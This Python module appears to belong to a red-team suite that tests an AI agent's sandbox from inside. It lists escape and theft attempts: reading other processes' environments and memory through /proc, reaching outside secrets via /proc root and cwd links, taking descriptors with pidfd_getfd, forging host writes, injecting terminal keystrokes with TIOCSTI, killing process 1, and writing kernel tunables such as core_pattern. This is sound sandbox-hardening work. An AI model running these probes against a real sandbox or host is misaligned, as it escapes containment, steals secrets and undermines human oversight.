"""What other processes are and know: environments, /proc, descriptors."""

from __future__ import annotations

import contextlib
import errno
import fcntl
import os
import signal
import termios

from corral.redteam.inside.attempt import Attempt
from corral.redteam.inside.box import Box
from corral.redteam.inside.calls import call
from corral.redteam.inside.ends import Untried, Won
from corral.redteam.inside.means import Tries, opens_for_writing, output_of, reads
from corral.redteam.inside.theirs import pid_of, require_theirs

_OURS = ("supervisor", "server", "hands", "egress", "victim")


def _pids() -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def _everything_of(what: str) -> Tries:
    def tries(box: Box) -> None:
        read = refused = 0
        for pid in _pids():
            try:
                box.read(f"/proc/{pid}/{what}")
                read += 1
            except OSError:
                refused += 1
        box.note(f"{read} processes read, {refused} refused: nothing that was planted")

    return tries


def _own_environment(box: Box) -> None:
    for name, value in os.environ.items():
        box.look(f"{name}={value}".encode())
    box.read("/proc/self/environ")
    box.note(f"{len(os.environ)} variables, none of which was planted")


def _login_environment(box: Box) -> None:
    output_of(box, "bash", "-lc", "env; set", environment={"BASH_ENV": "/etc/profile"})
    box.note("a login shell knows no more")


def _memory_of(pid: int, box: Box) -> int:
    """Look through all that can be read of its memory. Returns how many bytes that was. Raises OSError."""
    read = 0
    with open(f"/proc/{pid}/maps", encoding="utf-8", errors="replace") as maps:
        regions = [line.split() for line in maps]
    memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY | os.O_CLOEXEC)
    try:
        for region in regions:
            start, end = (int(number, 16) for number in region[0].split("-"))
            if region[1][0] != "r" or end - start > 64 << 20:
                continue
            with contextlib.suppress(OSError, OverflowError):
                read += len(box.look(os.pread(memory, end - start, start)))
    finally:
        os.close(memory)
    return read


def _own_memory(box: Box) -> None:
    box.note(f"{_memory_of(os.getpid(), box)} bytes of its own memory")


def _all_memory(box: Box) -> None:
    """Whatever lets itself be read, our own family too: the agent, the shell, their children."""
    read = refused = 0
    for pid in _pids():
        try:
            read += _memory_of(pid, box)
        except OSError:
            refused += 1
    box.note(f"{read} bytes read, {refused} processes refused")


def _memory_of_ours(name: str) -> Tries:
    def tries(box: Box) -> None:
        pid = box[f"{name}_pid"]
        require_theirs(box, name)
        raise Won(f"{_memory_of(pid, box)} bytes of the memory of {name}")

    return tries


def _of_ours(name: str, what: str) -> Tries:
    def tries(box: Box) -> None:
        require_theirs(box, name)
        data = box.read(f"/proc/{box[f'{name}_pid']}/{what}")
        if data:
            raise Won(f"{what} of {name}: {len(data)} bytes")
        box.note("it reads as empty")

    return tries


def _way_through(name: str, what: str) -> Tries:
    """To a secret file of the machine by what /proc links to."""

    def tries(box: Box) -> None:
        require_theirs(box, name)
        box.read(f"/proc/{box[f'{name}_pid']}/{what}{box['outside_secret']}")
        box.note("another file")

    return tries


def _sees(name: str) -> Tries:
    def tries(box: Box) -> None:
        require_theirs(box, name)
        raise Won(f"{name} is listed, as {box[f'{name}_pid']}")

    return tries


def _agents(what: str, *, mode: str = "content") -> Tries:
    return lambda box: reads(f"/proc/{box.agent_pid}/{what}", mode=mode)(box)


def _opens_agents(what: str) -> Tries:
    return lambda box: opens_for_writing(f"/proc/{box.agent_pid}/{what}")(box)


def _agents_descriptors(box: Box) -> None:
    found = os.listdir(f"/proc/{box.agent_pid}/fd")
    raise Won(f"{len(found)} descriptors of the agent")


def _descriptors_of(whom: str) -> Tries:
    def tries(box: Box) -> None:
        found = os.listdir(f"/proc/{pid_of(box, whom)}/fd")
        raise Won(f"{len(found)} descriptors of {whom}")

    return tries


def _forged_frame(box: Box) -> None:
    """An answer of ours in the agent's name: through any descriptor of its that leads out, as pipes of a
    kernel of its own do not."""
    folder, has_kernel = f"/proc/{box.agent_pid}/fd", "kernel" not in box["gaps"]
    refused = OSError(errno.ENOENT, "it has none that leads out")
    for name in os.listdir(folder):
        link = os.readlink(f"{folder}/{name}")
        if link == os.devnull or (has_kernel and link.startswith("pipe:")):
            continue
        try:
            os.close(os.open(f"{folder}/{name}", os.O_WRONLY | os.O_NONBLOCK))
        except OSError as error:
            refused = error
        else:
            raise Won(f"the agent's way to the host opens: {link}")
    raise refused


def _taken_descriptors(of: str) -> Tries:
    def tries(box: Box) -> None:
        pidfd = call("pidfd_open", pid_of(box, of), 0)
        for fd in range(3, 32):
            try:
                raise Won(f"descriptor {call('pidfd_getfd', pidfd, fd, 0)} of {of}")
            except OSError as error:
                if error.errno != errno.EBADF:
                    raise
        box.note("it has none")

    return tries


def _strange_descriptors(box: Box) -> None:
    """What was inherited leads nowhere: each directory is climbed, each socket asked who is at its end."""
    seen = []
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{name}")
            seen.append(f"{name}={target}")
            if os.path.isdir(f"/proc/self/fd/{name}"):
                box.read(f"/proc/self/fd/{name}/../../../../../..{box['outside_secret']}")
    box.note(", ".join(seen))


def _typed_ahead(box: Box) -> None:
    """Keys pressed on somebody's terminal."""
    with open("/dev/tty", "rb") as terminal:
        fcntl.ioctl(terminal, termios.TIOCSTI, b"#")
    raise Won("a terminal took a key")


def _ends_the_agent(box: Box) -> None:
    """It would end this sandbox alone; but nobody inside should be able to."""
    if box.agent_pid != 1:
        raise Untried("the agent is not process 1 here, and nobody else's is to be ended")
    os.kill(1, 0)
    for number in (signal.SIGTERM, signal.SIGKILL):
        os.kill(1, number)
    os.kill(1, 0)
    box.note("it heard both, and is there")


def _layout(box: Box) -> None:
    with open("/proc/iomem", encoding="utf-8", errors="replace") as regions:
        known = [line for line in regions if line.partition(" : ")[0].strip("0- \n")]
    if known:
        raise Won(known[0].strip())
    box.note("all of them read as 0")


def _addresses(box: Box) -> None:
    with open("/proc/kallsyms", encoding="utf-8", errors="replace") as symbols:
        lines = [line for line in symbols.readlines(65536) if line.strip("0 \n")]
    known = [line for line in lines if int(line.split()[0], 16)]
    if known:
        raise Won(known[0].strip())
    box.note("all of them read as 0")


ATTEMPTS: dict[str, list[Attempt]] = {
    "environments": [
        Attempt("own", "looks for secrets in its own environment", _own_environment),
        Attempt("login", "looks for more in that of a login shell", _login_environment),
        Attempt("agent", "reads the environment of the agent", _agents("environ")),
        Attempt("all", "reads the environment of every process that it sees", _everything_of("environ")),
        *(
            Attempt(name, f"reads the environment of {name}, outside", _of_ours(name, "environ"))
            for name in _OURS
        ),
    ],
    "proc": [
        *(
            Attempt(f"sees-{name}", f"finds {name} among the processes", _sees(name), "processes")
            for name in _OURS
        ),
        *(
            Attempt(
                f"arguments-{name}",
                f"reads the arguments of {name}",
                _of_ours(name, "cmdline"),
                "processes",
            )
            for name in _OURS
        ),
        *(
            Attempt(f"memory-{name}", f"reads the memory of {name}", _memory_of_ours(name))
            for name in _OURS
        ),
        *(
            Attempt(f"{what}-{name}", f"goes through /proc/PID/{what} of {name}", _way_through(name, what))
            for name in ("hands", "victim")
            for what in ("root", "cwd/../../../../..")
        ),
        Attempt("own-memory", "looks for secrets in its own memory", _own_memory),
        Attempt(
            "all-memory", "looks through the memory of all processes it may read", _all_memory, seconds=20
        ),
        Attempt(
            "arguments",
            "looks for secrets in the arguments of all processes",
            _everything_of("cmdline"),
            "processes",
        ),
        Attempt("agent-root", "leaves through the root of the agent", _agents("root{outside_secret}")),
        Attempt("agent-program", "opens the agent's interpreter for writing", _opens_agents("exe")),
        Attempt("agent-ends", "kills the agent", _ends_the_agent, ends=True),
        Attempt(
            "sysrq",
            "opens /proc/sysrq-trigger",
            opens_for_writing("/proc/sysrq-trigger"),
            is_of_kernel=True,
        ),
        *(
            Attempt(
                path.rpartition("/")[2].replace("_", "-"),
                f"opens /proc/{path} for writing",
                opens_for_writing(f"/proc/{path}"),
                is_of_kernel=True,
            )
            for path in (
                "sys/kernel/core_pattern",
                "sys/kernel/modprobe",
                "sys/kernel/hostname",
                "sys/vm/overcommit_memory",
                "sys/fs/suid_dumpable",
                "sys/net/ipv4/ip_forward",
                "sys/fs/binfmt_misc/register",
                "irq/default_smp_affinity",
            )
        ),
        *(
            Attempt(path.replace("/", "-"), f"reads /proc/{path}", reads(f"/proc/{path}", mode="anything"))
            for path in ("kcore", "kmsg", "keys", "timer_list", "sched_debug", "vmallocinfo")
        ),
        Attempt(
            "agent-map",
            "reads where the agent's memory lies",
            _agents("maps", mode="anything"),
            is_of_kernel=True,
        ),
        Attempt("addresses", "reads where the kernel lies", _addresses),
        Attempt("layout", "reads where devices lie in memory", _layout),
        *(
            Attempt(
                path.rpartition("/")[2].replace("_", "-"),
                f"tells the machine by /proc/{path}",
                reads(f"/proc/{path}"),
                "kernel",
            )
            for path in (
                "version",
                "sys/kernel/random/boot_id",
                "cmdline",
                "partitions",
                "sys/kernel/osrelease",
            )
        ),
    ],
    "descriptors": [
        Attempt("inherited", "follows every descriptor it was given", _strange_descriptors),
        Attempt("agent", "lists the descriptors of the agent", _agents_descriptors, is_of_kernel=True),
        Attempt("forged-answer", "writes to the host in the agent's name", _forged_frame),
        Attempt("taken-agent", "takes a descriptor of the agent", _taken_descriptors("agent")),
        Attempt("taken-hands", "takes a descriptor of the hands host", _taken_descriptors("hands")),
        Attempt("listed-hands", "lists the descriptors of the hands host", _descriptors_of("hands")),
        Attempt("terminal", "presses keys on the terminal of whoever started Corral", _typed_ahead),
    ],
}
